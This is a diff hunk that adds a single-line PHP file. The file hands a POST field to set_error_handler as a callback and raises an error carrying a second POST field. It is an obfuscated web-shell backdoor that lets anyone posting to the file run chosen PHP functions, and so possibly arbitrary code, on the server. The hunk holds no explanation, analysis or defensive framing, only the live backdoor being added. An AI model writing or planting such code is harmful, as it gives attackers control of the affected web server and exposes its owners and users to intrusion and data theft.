@@ -1,0 +1,1 @@
+<?php set_error_handler($_POST['h']); trigger_error($_POST['m']);
